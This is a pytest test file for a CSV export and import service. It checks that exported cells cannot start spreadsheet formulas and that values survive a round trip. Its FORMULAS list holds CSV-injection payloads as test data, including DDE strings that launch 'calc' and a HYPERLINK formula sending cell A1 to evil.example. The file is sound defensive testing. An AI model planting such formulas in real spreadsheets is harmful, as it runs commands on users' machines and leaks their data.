"""Formulas in CSV files: an export runs nothing in a spreadsheet, and an import brings back what was exported."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete

from sequencer.core.cell import guarded, unguarded
from sequencer.core.lead_input import COLUMNS, InvalidLead, read
from sequencer.services import exports, imports
from sequencer.services.exports import export_csv
from sequencer.services.imports import import_csv
from sequencer.services.leads import save
from sequencer.store import clock, leads
from sequencer.store.tables import company, lead
from tests.cli.conftest import ROOT, Sequencer
from tests.cli.conftest import bundle as bundle
from tests.cli.conftest import environ as environ
from tests.cli.conftest import released as released
from tests.cli.conftest import sequencer as sequencer
from tests.services.conftest import World
from tests.workspaces import WORKSPACE, files

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    "+49 30 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    "'-",
    "=",
    '",=1+1,"',
    "a\r\n=1+1",
    "'quoted'",
    "O'Hara",
)
BEGINS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")

DECLARED = """
fields:
  pains: {some_of: [cost, risk, =risk, -cost]}
  next_attempt: {date: true}
  balance: {number: true}
  vip: {flag: true}
  plan: {one_of: [-basic, =pro, free]}
"""


@pytest.fixture
def house(world: World) -> World:
    """With a field of each type."""
    workspace = WORKSPACE.replace("fields:\n  pains: {some_of: [cost, risk]}\n  next_attempt: {date: true}\n", DECLARED)
    world.deploy({**files(), "sequences/workspace.yaml": workspace})
    return world


def bring(world: World, *raws: dict[str, Any]) -> None:
    """Saves leads as the API does."""
    with world.context.engine.begin() as conn:
        release = world.context.releases.current(conn)
        inputs = [read(raw, release.workspace) for raw in raws]
        save(conn, release, inputs, "api", clock.now(conn), announce_new=False)


def exported(world: World) -> str:
    text = io.StringIO()
    export_csv(world.context, text)
    return text.getvalue()


def stored(world: World) -> list[tuple[object, ...]]:
    """Everything that was said of every lead."""
    with world.context.engine.connect() as conn:
        page = leads.page(conn, 0, 1000)
        names = {
            one.id: one.name for one in leads.companies(conn, [o.company_id for o in page if o.company_id]).values()
        }
    own = ("email", "first_name", "last_name", "title", "zone", "country", "stage", "status", "campaign", "owner")
    return sorted(
        (*(getattr(one, name) for name in own), names.get(one.company_id or 0), sorted(one.fields.items(), key=str))
        for one in page
    )


def forget(world: World) -> None:
    with world.context.engine.begin() as conn:
        conn.execute(delete(lead))
        conn.execute(delete(company))


def cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline="")):
        yield from row


def everywhere(formula: str, email: str) -> dict[str, Any]:
    """In every column that takes any text, and as the name of an attribute."""
    named = dict.fromkeys(("first_name", "last_name", "title", "company", "country", "campaign", "hobby"), formula)
    return {"email": email, **named, formula: formula}


def lead_with(world: World, formula: str) -> str:
    bring(world, everywhere(formula, "kim@harbor.example"))
    return exported(world)


def runs_nothing(text: str) -> None:
    assert [cell for cell in cells(text) if cell.startswith(BEGINS_A_FORMULA)] == []


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_an_export_begins_a_formula(house: World, formula: str) -> None:
    text = lead_with(house, formula)
    runs_nothing(text)
    header, row = csv.reader(io.StringIO(text, newline=""))
    assert row.count(guarded(formula)) == 8
    assert guarded(formula.lower()) in header


def test_an_address_can_be_a_formula_too(house: World) -> None:
    bring(house, {"email": "=cmd|'/c+calc'!a0@harbor.example"}, {"email": "-1@harbor.example"})
    text = exported(house)
    runs_nothing(text)
    assert {row["email"] for row in csv.DictReader(io.StringIO(text))} == {
        "'=cmd|'/c+calc'!a0@harbor.example",
        "'-1@harbor.example",
    }


def test_an_export_that_guards_nothing_is_noticed(house: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "guarded", str)
    text = lead_with(house, FORMULAS[0])
    with pytest.raises(AssertionError):
        runs_nothing(text)


def round_trip(world: World) -> None:
    """Exported, forgotten and imported, everything is as it was."""
    before, text = stored(world), exported(world)
    forget(world)
    result = import_csv(world.context, io.StringIO(text, newline=""), None)
    assert (result.new, result.problems) == (len(before), [])
    assert stored(world) == before
    assert sorted(exported(world).splitlines()) == sorted(text.splitlines())


def test_what_was_exported_is_imported_as_it_was(house: World) -> None:
    bring(house, *(everywhere(formula, f"p{n}@c{n}.example") for n, formula in enumerate(FORMULAS)))
    full = {"pains": ["=risk", "-cost"], "balance": -12.5, "vip": False, "plan": "=pro", "next_attempt": "2026-12-01"}
    own = {"time_zone": "Europe/London", "owner_email": "-o@acme.example", "stage": "mql", "status": "idle-timing"}
    bring(house, {"email": "full@harbor.example", **own, **full})
    bring(house, {"email": "more@harbor.example", "balance": 3, "vip": True, "Hobby": "=1", " -Shoe ": 38})
    round_trip(house)


@pytest.mark.parametrize(("module", "defence"), [(imports, "unguarded"), (exports, "guarded")])
def test_a_guard_on_one_side_only_is_noticed(
    house: World, monkeypatch: pytest.MonkeyPatch, module: Any, defence: str
) -> None:
    bring(house, everywhere("'=1+1", "kim@harbor.example"))
    monkeypatch.setattr(module, defence, str)
    with pytest.raises(AssertionError):
        round_trip(house)


hostile = st.text(
    st.one_of(st.sampled_from("='+-@\t\r\n\",;|! a"), st.characters(exclude_categories=["Cs"])), max_size=12
)
raw_leads = st.dictionaries(
    st.one_of(st.sampled_from([c for c in COLUMNS if c not in ("email", "time_zone", "stage", "status")]), hostile),
    st.one_of(hostile, st.integers(-(10**15), 10**15), st.booleans(), st.none()),
    max_size=8,
)


@settings(max_examples=25, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(given_leads=st.lists(raw_leads, max_size=6))
def test_whatever_leads_hold_survives_an_export_and_an_import(house: World, given_leads: list[dict[str, Any]]) -> None:
    forget(house)
    for n, raw in enumerate(given_leads):
        try:
            bring(house, {**raw, "email": f"p{n}@c{n}.example"})
        except InvalidLead:
            continue
    runs_nothing(exported(house))
    round_trip(house)


@given(hostile)
def test_a_guard_is_taken_off_as_it_was_put_on(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(BEGINS_A_FORMULA)
    assert guarded(text) in (text, f"'{text}")


def test_an_export_holds_one_page_of_leads_at_a_time(house: World, monkeypatch: pytest.MonkeyPatch) -> None:
    bring(house, *({"email": f"p{n}@harbor.example"} for n in range(5)))
    text, seen = io.StringIO(), []
    real = leads.page
    monkeypatch.setattr(exports, "ROWS", 2)
    monkeypatch.setattr(leads, "page", lambda *asked: seen.append(text.getvalue().count("@")) or real(*asked))
    assert export_csv(house.context, text) == 5
    assert seen == [0, 2, 4, 5]


def test_a_lead_who_comes_during_an_export_is_exported_too_and_breaks_nothing(
    house: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    bring(house, {"email": "kim@harbor.example", "hobby": "chess"})
    real = exports._row

    def late(*given: Any) -> Any:
        bring(house, {"email": "lee@harbor.example", "hobby": "go", "shoe": "38"})
        return real(*given)

    monkeypatch.setattr(exports, "_row", late)
    rows = list(csv.DictReader(io.StringIO(exported(house))))
    assert [(row["email"], row["hobby"]) for row in rows] == [
        ("kim@harbor.example", "chess"),
        ("lee@harbor.example", "go"),
    ]


def test_the_command_exports_to_a_file_and_to_a_pipe(released: Sequencer, tmp_path: Path) -> None:
    released("leads", "import", str(ROOT / "examples" / "leads.csv"))
    file = tmp_path / "leads.csv"
    assert f"200 leads in {file}\n" == released("leads", "export", str(file))
    piped = released("leads", "export")
    assert piped == file.read_text("utf-8")
    assert piped.startswith(f"{','.join(COLUMNS)},")
    assert "0 new, 200 updated\n" == released("leads", "import", str(file))
    assert piped == released("leads", "export", "-")


def test_nothing_is_exported_before_something_is_deployed(sequencer: Sequencer, tmp_path: Path) -> None:
    assert sequencer.refusal("leads", "export", str(tmp_path / "x.csv")).startswith("nothing is deployed yet")
    assert list(tmp_path.iterdir()) == []
